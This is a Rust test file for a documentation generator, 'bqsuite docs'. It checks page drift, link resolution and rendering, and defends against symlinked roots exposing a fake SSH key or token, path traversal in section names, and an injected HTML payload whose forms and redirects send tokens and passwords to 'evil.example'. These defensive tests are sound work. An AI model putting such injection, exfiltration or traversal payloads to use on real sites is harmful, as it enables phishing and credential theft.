//! `bqsuite docs`: the committed pages equal what the suite renders, a manifest change without
//! regenerating fails `--check`, regenerating is one command, and the HTML rendering is
//! self-contained, renders in headless Chromium without a console message at a phone's width,
//! and every internal link of every page resolves (the file exists, the fragment is a heading).

mod support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::json;
use support::{bqsuite, copy_tree, repo, transcript};

/// A copy of what `bqsuite docs` reads and writes: the suite, README.md, CHANGELOG.md, docs/.
fn docs_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for entry in support::SUITE_ENTRIES.iter().chain(&["CHANGELOG.md", "README.md", "docs"]) {
        copy_tree(&repo().join(entry), &dir.path().join(entry));
    }
    dir
}

#[test]
fn the_committed_docs_are_what_the_suite_renders() {
    committed_docs_are_current();
}

/// The committed pages are what the suite renders; else fail saying so, for the tests that start
/// from them (every page names the suite's version, so a version bump needs `bqsuite docs`).
#[track_caller]
fn committed_docs_are_current() {
    let o = bqsuite(&repo(), &["docs", "--check"]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "the committed docs are not what the suite renders (after a version bump, every page): run `cargo run -- docs` \
         and commit: {}",
        transcript(&o)
    );
}

/// The code and file of each finding of a `--format json` report.
fn codes_and_files(report: &serde_json::Value) -> Vec<(String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["code"].as_str().unwrap().to_owned(), f["file"].as_str().unwrap().to_owned()))
        .collect()
}

#[test]
fn a_case_added_to_the_manifest_without_regenerating_fails_the_check_until_docs_runs() {
    let dir = docs_copy();
    let p = dir.path();
    let path = p.join("manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    manifest["kafka_poison"]["cases"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "added-without-regenerating", "body": "{\"job\":\"urn:y\"}", "expect": "ok"}));
    std::fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();

    let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let findings = codes_and_files(&report);
    for page in ["docs/sections/kafka_poison.md", "docs/sections/README.md", "docs/html/sections/kafka_poison.html"] {
        assert!(findings.contains(&("BQ960".to_owned(), page.to_owned())), "{page} differs: {findings:?}");
    }
    assert!(findings.iter().all(|(code, _)| code == "BQ960"), "{findings:?}");

    let o = bqsuite(p, &["docs"]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    let page = std::fs::read_to_string(p.join("docs/sections/kafka_poison.md")).unwrap();
    assert!(page.contains("| `added-without-regenerating` | body `{\"job\":\"urn:y\"}` | `ok` |"), "{page}");
    let o = bqsuite(p, &["docs", "--check"]);
    assert_eq!(o.status.code(), Some(0), "one `bqsuite docs` brings the pages back in line: {}", transcript(&o));
}

#[test]
fn a_removed_section_leaves_a_stale_page_and_docs_removes_it() {
    let dir = docs_copy();
    let p = dir.path();
    let path = p.join("manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let m = manifest.as_object_mut().unwrap();
    m.remove("kafka_poison");
    m["sections"].as_object_mut().unwrap().remove("kafka_poison");
    std::fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
    let o = bqsuite(p, &["docs", "--check"]);
    assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains("error[BQ962 docs-page-stale]") && text.contains("docs/sections/kafka_poison.md"), "{text}");
    let o = bqsuite(p, &["docs"]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    assert!(
        !p.join("docs/sections/kafka_poison.md").exists() && !p.join("docs/html/sections/kafka_poison.html").exists()
    );
    assert_eq!(bqsuite(p, &["docs", "--check"]).status.code(), Some(0));
}

#[cfg(unix)]
#[test]
fn a_symlink_where_the_docs_own_every_entry_is_reported_and_replaced() {
    committed_docs_are_current();
    let dir = docs_copy();
    let p = dir.path();
    let page = p.join("docs/sections/kafka_poison.md");
    let copy = p.join("kafka_poison.md");
    std::fs::rename(&page, &copy).unwrap();
    // Named as a page, with the page's own bytes: still not the page.
    std::os::unix::fs::symlink(&copy, &page).unwrap();
    std::os::unix::fs::symlink(p.join("README.md"), p.join("docs/html/extra.html")).unwrap();
    let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let found = codes_and_files(&report);
    let found: Vec<(&str, &str)> = found.iter().map(|(c, f)| (c.as_str(), f.as_str())).collect();
    assert_eq!(found, [("BQ962", "docs/html/extra.html"), ("BQ962", "docs/sections/kafka_poison.md")]);
    assert!(report["findings"][0]["message"].as_str().unwrap().contains("not a regular file"), "{report}");
    let o = bqsuite(p, &["docs"]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    assert!(std::fs::symlink_metadata(&page).unwrap().file_type().is_file(), "the page is written in the link's place");
    assert_eq!(std::fs::read(&page).unwrap(), std::fs::read(&copy).unwrap());
    assert!(std::fs::symlink_metadata(p.join("docs/html/extra.html")).is_err(), "the foreign link is removed");
    assert!(p.join("README.md").exists(), "and what it pointed to is left alone");
    assert_eq!(bqsuite(p, &["docs", "--check"]).status.code(), Some(0));
}

/// Every file under `dir`, relative, sorted.
#[cfg(unix)]
fn files_under(dir: &Path) -> Vec<String> {
    let mut out: Vec<String> = walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(dir).unwrap().to_string_lossy().into_owned())
        .collect();
    out.sort();
    out
}

/// A generated page deleted is BQ961 (missing), and `docs` puts it back; a docs root that is
/// not a directory hides only what lies under it, never the other pages' drift.
#[test]
fn a_deleted_page_is_missing_and_a_bad_root_hides_only_its_own_pages() {
    committed_docs_are_current();
    let dir = docs_copy();
    let p = dir.path();
    std::fs::remove_file(p.join("docs/codes.md")).unwrap();
    let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(codes_and_files(&report), [("BQ961".to_owned(), "docs/codes.md".to_owned())]);
    assert_eq!(bqsuite(p, &["docs"]).status.code(), Some(0));
    assert_eq!(bqsuite(p, &["docs", "--check"]).status.code(), Some(0));

    std::fs::remove_dir_all(p.join("docs/html")).unwrap();
    std::fs::write(p.join("docs/html"), "not a directory\n").unwrap();
    let page = p.join("docs/cli.md");
    std::fs::write(&page, format!("{}\nedited\n", std::fs::read_to_string(&page).unwrap())).unwrap();
    let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let found = codes_and_files(&report);
    assert!(found.contains(&("BQ963".to_owned(), "docs/html".to_owned())), "{found:?}");
    assert!(found.contains(&("BQ960".to_owned(), "docs/cli.md".to_owned())), "{found:?}");
    assert!(found.iter().all(|(_, f)| !f.starts_with("docs/html/")), "nothing under the file: {found:?}");
}

#[cfg(unix)]
#[test]
fn a_symlinked_docs_root_is_reported_and_docs_refuses_to_write_or_remove_through_it() {
    committed_docs_are_current();
    for root in ["docs/html", "docs/sections", "docs"] {
        let dir = docs_copy();
        let (p, elsewhere) = (dir.path().join("repo"), dir.path().join("victim"));
        std::fs::create_dir(&p).unwrap();
        for entry in std::fs::read_dir(dir.path()).unwrap().map(Result::unwrap) {
            if entry.file_name() != "repo" {
                std::fs::rename(entry.path(), p.join(entry.file_name())).unwrap();
            }
        }
        // What a pull request commits: the root as a link to a directory out of the repository,
        // with the pages' tree behind it and a file of someone else's.
        copy_tree(&p.join(root), &elsewhere);
        std::fs::remove_dir_all(p.join(root)).unwrap();
        std::fs::create_dir_all(elsewhere.join(".ssh")).unwrap();
        std::fs::write(elsewhere.join(".ssh/id_ed25519"), "KEY\n").unwrap();
        std::fs::write(elsewhere.join("main.rs"), "code\n").unwrap();
        let depth = root.matches('/').count() + 1;
        std::os::unix::fs::symlink(format!("{}victim", "../".repeat(depth)), p.join(root)).unwrap();
        let before = files_under(&elsewhere);

        let o = bqsuite(&p, &["docs", "--check", "--format", "json"]);
        assert_eq!(o.status.code(), Some(1), "{root}: {}", transcript(&o));
        let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let found = codes_and_files(&report);
        assert!(found.contains(&("BQ963".to_owned(), root.to_owned())), "{root}: {found:?}");
        assert!(found.iter().all(|(_, f)| !f.starts_with(&format!("{root}/"))), "nothing under the link: {found:?}");
        let text = String::from_utf8_lossy(&o.stdout);
        assert!(
            !text.contains("id_ed25519") && !text.contains("main.rs"),
            "{root}: names files out of the repository: {text}"
        );
        assert!(String::from_utf8_lossy(&o.stderr).contains("delete it before"), "{root}: {}", transcript(&o));

        let o = bqsuite(&p, &["docs"]);
        assert_eq!(o.status.code(), Some(2), "{root}: {}", transcript(&o));
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(stderr.contains(&format!("{root} is a symbolic link")), "{root}: {stderr}");
        assert_eq!(files_under(&elsewhere), before, "{root}: nothing removed or written through the link");
        assert_eq!(std::fs::read_to_string(elsewhere.join(".ssh/id_ed25519")).unwrap(), "KEY\n");

        // Once the link is gone, one `bqsuite docs` brings the pages back.
        std::fs::remove_file(p.join(root)).unwrap();
        assert_eq!(bqsuite(&p, &["docs"]).status.code(), Some(0), "{root}");
        assert_eq!(bqsuite(&p, &["docs", "--check"]).status.code(), Some(0), "{root}");
    }
}

/// The files `docs` reads (README.md, CHANGELOG.md, a hand-written page) are never read through
/// a link: `CHANGELOG.md -> ../secret`, committed in a pull request, would put the secret into
/// the HTML pages and the `--check` diff. For README.md and CHANGELOG.md both `docs` and
/// `docs --check` stop (exit 2), naming the file, and write nothing; a linked `docs/*.md` is no
/// hand-written page at all.
#[test]
fn a_symlinked_readme_changelog_or_page_is_never_read() {
    for rel in ["README.md", "CHANGELOG.md", "docs/manual.md"] {
        let dir = docs_copy();
        let secret = dir.path().join("secret.txt");
        std::fs::write(&secret, "TOKEN=hunter2\n").unwrap();
        std::fs::remove_file(dir.path().join(rel)).unwrap();
        std::os::unix::fs::symlink(&secret, dir.path().join(rel)).unwrap();
        let before = files_under(&dir.path().join("docs"));
        for args in [&["docs", "--check"][..], &["docs"][..]] {
            let o = bqsuite(dir.path(), args);
            let all = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
            assert!(!all.contains("hunter2"), "{rel} {args:?}: {all}");
            // A hand-written page that is a link is no page of the docs (they list regular
            // files only); README.md and CHANGELOG.md must be read, so the command stops.
            if !rel.starts_with("docs/") {
                assert_eq!(o.status.code(), Some(2), "{rel} {args:?}: {}", transcript(&o));
                assert!(all.contains(&format!("{rel} is a symbolic link")), "{rel} {args:?}: {all}");
                assert_eq!(files_under(&dir.path().join("docs")), before, "{rel}: nothing written");
            }
        }
        let html = std::fs::read_dir(dir.path().join("docs/html")).unwrap();
        for page in html.map(Result::unwrap) {
            let text = std::fs::read_to_string(page.path()).unwrap_or_default();
            assert!(!text.contains("hunter2"), "{rel}: {}", page.path().display());
        }
    }
}

#[test]
fn out_writes_elsewhere_the_same_bytes_and_leaves_the_repository_alone() {
    committed_docs_are_current();
    let out = tempfile::tempdir().unwrap();
    let o = bqsuite(&repo(), &["docs", "--out", out.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    for rel in ["docs/sections/kafka_poison.md", "docs/codes.md", "docs/html/index.html", "README.md"] {
        assert_eq!(std::fs::read(out.path().join(rel)).unwrap(), std::fs::read(repo().join(rel)).unwrap(), "{rel}");
    }
    let o = bqsuite(&repo(), &["docs", "--check", "--out", out.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
}

/// The values of attribute `name` in `html` (double-quoted, as the renderer writes them).
fn attributes(html: &str, name: &str) -> Vec<String> {
    let needle = format!(" {name}=\"");
    html.match_indices(&needle)
        .filter_map(|(i, _)| {
            let rest = &html[i + needle.len()..];
            rest.find('"').map(|end| rest[..end].replace("&amp;", "&"))
        })
        .collect()
}

#[test]
fn every_page_is_self_contained_and_every_internal_link_resolves() {
    let pages = support::html_pages();
    assert!(pages.len() > 30, "{} pages", pages.len());
    let mut broken = Vec::new();
    for page in &pages {
        let html = std::fs::read_to_string(page).unwrap();
        for forbidden in ["<script", "<link", "<img", "<iframe", "src=", "@import", "url("] {
            assert!(!html.contains(forbidden), "{}: {forbidden}", page.display());
        }
        assert!(html.contains("name=\"viewport\"") && html.contains("Content-Security-Policy"), "{}", page.display());
        for href in attributes(&html, "href") {
            if href.starts_with("http://") || href.starts_with("https://") || href.starts_with("mailto:") {
                continue;
            }
            let (target, fragment) = href.split_once('#').map_or((href.as_str(), None), |(t, f)| (t, Some(f)));
            let file = if target.is_empty() { page.clone() } else { page.parent().unwrap().join(target) };
            let Ok(text) = std::fs::read_to_string(&file) else {
                broken.push(format!("{}: {href} (no such file)", page.display()));
                continue;
            };
            let Some(fragment) = fragment else { continue };
            // A browser shows a Markdown file as text and finds no `#fragment` in it (user
            // journey: the section pages' "Added in" links went to CHANGELOG.md#160).
            if file.extension().is_none_or(|x| x != "html") {
                broken.push(format!(
                    "{}: {href} (a fragment of a Markdown file, which a browser cannot follow)",
                    page.display()
                ));
                continue;
            }
            let anchors: BTreeSet<String> = attributes(&text, "id").into_iter().collect();
            if !anchors.contains(fragment) {
                broken.push(format!("{}: {href} (no heading #{fragment} there)", page.display()));
            }
        }
    }
    assert!(broken.is_empty(), "{} broken links:\n{}", broken.len(), broken.join("\n"));
}

#[test]
fn the_html_pages_render_in_chromium_at_a_phones_width_without_a_console_message() {
    let Some(browser) = support::chromium() else { return };
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("docs-screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    for rel in [
        "index",
        "readme",
        "sections/index",
        "sections/kafka_poison",
        "sections/redis",
        "results-format",
        "codes",
        "cli",
    ] {
        let page = repo().join("docs/html").join(format!("{rel}.html"));
        let shot = shots.join(format!("{}.png", rel.replace('/', "-")));
        let _ = std::fs::remove_file(&shot);
        let (out, log) = support::run_chromium(
            &browser,
            &page,
            &["--window-size=390,844", &format!("--screenshot={}", shot.display())],
        );
        assert!(out.status.success(), "{rel}: chromium failed: {log}");
        let console: Vec<&str> = log.lines().filter(|l| l.contains(":CONSOLE")).collect();
        assert!(console.is_empty(), "{rel}: console messages:\n{}", console.join("\n"));
        let png = std::fs::read(&shot).unwrap_or_default();
        assert!(
            png.starts_with(b"\x89PNG") && png.len() > 5_000,
            "{rel}: a screenshot of the page ({} bytes)",
            png.len()
        );
        eprintln!("screenshot: {}", shot.display());
    }
    // Reflow (WCAG 1.4.10): at 320 CSS px, 400 % zoom of a 1280 px window, no page scrolls
    // sideways as a whole; a wide table or code block scrolls in its own box.
    let wide = support::a11y::wider_than_320(&browser, &support::html_pages());
    assert!(wide.is_empty(), "pages wider than 320 CSS px:\n{}", wide.join("\n"));
    // The DOM Chromium built holds the page's content: the kafka_poison case table.
    let page = repo().join("docs/html/sections/kafka_poison.html");
    let (out, log) = support::run_chromium(&browser, &page, &["--dump-dom"]);
    assert!(out.status.success(), "chromium failed: {log}");
    let dom = String::from_utf8_lossy(&out.stdout);
    assert!(dom.contains("<h1 id=\"kafka_poison\"><code>kafka_poison</code></h1>"), "{dom}");
    assert!(dom.contains("<td><code>invalid-utf8</code></td>"), "{dom}");
    assert!(!dom.contains("<script"), "{dom}");
}

#[test]
fn every_section_has_a_runner_contract_naming_exactly_the_fields_its_cases_hold() {
    let suite = bqsuite::suite::Suite::load(repo()).unwrap();
    let mut without: Vec<&str> = Vec::new();
    for section in suite.sections() {
        let Some(contract) = bqsuite::sections::find(section.name).map(|d| d.contract()) else {
            without.push(section.name);
            continue;
        };
        let held: BTreeSet<&str> = section
            .cases()
            .iter()
            .filter_map(|c| c.value.as_object())
            .flat_map(|o| o.keys().map(String::as_str))
            .collect();
        let named: BTreeSet<&str> = contract.fields.iter().map(|f| f.name).collect();
        assert_eq!(named, held, "{}: the contract's fields and the cases' fields", section.name);
        assert!(!contract.steps.is_empty(), "{}: a contract says how a case runs", section.name);
        let page = std::fs::read_to_string(repo().join(format!("docs/sections/{}.md", section.name))).unwrap();
        for f in contract.fields {
            assert!(page.contains(f.meaning), "{}: the page gives the meaning of {}", section.name, f.name);
        }
    }
    assert!(without.is_empty(), "every section has a written runner contract; these have none: {without:?}");
}

#[test]
fn a_hand_edited_generated_table_in_the_readme_is_drift_and_a_suite_without_its_repository_cannot_render() {
    let dir = docs_copy();
    let p = dir.path();
    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
    let edited =
        readme.replacen("| [`cases`](docs/sections/cases.md) | ", "| [`cases`](docs/sections/cases.md) | 9", 1);
    assert_ne!(edited, readme, "the README's sections table lists cases");
    std::fs::write(p.join("README.md"), edited).unwrap();
    let o = bqsuite(p, &["docs", "--check"]);
    assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("error[BQ960 docs-page-differs]: README.md differs"),
        "{}",
        transcript(&o)
    );

    std::fs::remove_file(p.join("README.md")).unwrap();
    let o = bqsuite(p, &["docs", "--check"]);
    assert_eq!(o.status.code(), Some(2), "{}", transcript(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("cannot read README.md"), "{}", transcript(&o));
}

/// Rewrite the manifest of the copy at `p` with `f`.
fn edit_manifest(p: &Path, f: impl FnOnce(&mut serde_json::Value)) {
    let path = p.join("manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    f(&mut manifest);
    std::fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
}

#[test]
fn a_section_name_that_is_no_file_name_writes_no_page_outside_the_docs() {
    let dir = docs_copy();
    let p = dir.path().join("repo");
    std::fs::create_dir(&p).unwrap();
    for entry in std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().path()).filter(|e| *e != p) {
        std::fs::rename(&entry, p.join(entry.file_name().unwrap())).unwrap();
    }
    edit_manifest(&p, |m| {
        m["sections"]["../../../escaped"] = json!("core");
        m["../../../escaped"] = json!({"description": "x", "cases": [{"name": "a", "valid": true}]});
    });
    for args in [&["docs"][..], &["docs", "--check"]] {
        let o = bqsuite(&p, args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", transcript(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("manifest.json") && err.contains("../../../escaped"), "{err}");
    }
    assert!(!dir.path().join("escaped.md").exists() && !p.join("escaped.html").exists(), "a page outside the docs");
}

#[test]
fn a_description_with_line_breaks_and_entities_opens_no_markup_in_its_page() {
    let dir = docs_copy();
    let p = dir.path();
    edit_manifest(p, |m| {
        m["trim"]["description"] = json!("- a list?\n## injected heading\n    indented\n&lt;b&gt; 1. x")
    });
    let o = bqsuite(p, &["docs"]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    let md = std::fs::read_to_string(p.join("docs/sections/trim.md")).unwrap();
    assert!(md.contains("\\- a list?\n\\## injected heading\nindented\n\\&lt;b\\&gt; 1. x"), "{md}");
    let html = std::fs::read_to_string(p.join("docs/html/sections/trim.html")).unwrap();
    assert!(!html.contains("id=\"injected-heading\"") && !html.contains("<li>a list?"), "{html}");
    assert!(html.contains("&amp;lt;b&amp;gt;"), "the entity is shown as its characters: {html}");
}

/// The figures of the recorded power that the README, the manual and `explain BQ318` quote are
/// the recording's: a new recording that moves them fails here until the prose says so (they
/// had gone stale: 851 pairs, 513 cases and 242 unprotected against 956, 523 and 239).
/// The hand-written pages are a pull request's to change: raw HTML there, after a comment or
/// inside one a browser ends early, and a `javascript:` link reach no page as markup or a link.
#[test]
fn raw_html_and_script_links_in_a_hand_written_page_reach_its_html_as_text() {
    let dir = docs_copy();
    let p = dir.path();
    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
    let payload = "<!-- x --><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/phish\"><base href=\"https://evil.example/\"><form action=\"https://evil.example/steal\"><input name=token></form>\n\nInline too: <!-- a --!><form action=\"https://evil.example/\"><input name=pw></form> -->\n\n[js](javascript:document.title=1//://x)\n";
    std::fs::write(p.join("README.md"), format!("{readme}\n{payload}")).unwrap();
    let o = bqsuite(p, &["docs"]);
    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
    let html = std::fs::read_to_string(p.join("docs/html/readme.html")).unwrap();
    for markup in ["<meta http-equiv=\"refresh", "<base", "<form", "<input", "javascript:document"] {
        assert!(!html.contains(markup), "{markup} in the page");
    }
    assert!(html.contains("&lt;form action="), "the HTML is shown as text");
    assert!(html.contains("base-uri 'none'; form-action 'none'"), "the policy forbids a base and a form's submission");
}

#[test]
fn the_recorded_power_figures_the_docs_quote_are_the_recordings() {
    let power = bqsuite::sections::power::recorded();
    let (pairs, cases, bare) = (power.pairs.len(), power.content.len(), power.unprotected.len());
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let manual = std::fs::read_to_string(repo().join("docs/manual.md")).unwrap();
    let why = bqsuite::diag::Code::RECORDED_CASE_CHANGED.explain().why;
    for (text, quote) in [
        (&readme, format!("the kill matrix, {pairs} pairs in {}", power.suite)),
        (&readme, format!("lists the {bare} cases no variant fails")),
        (&manual, format!("fails, {pairs} pairs in {}", power.suite)),
        (&manual, format!("of {}'s {cases} cases, {bare} are", power.suite)),
    ] {
        assert!(text.contains(&quote), "the docs should say {quote:?}");
    }
    assert!(why.contains(&format!("{bare} of {}'s cases no variant fails", power.suite)), "{why}");
}
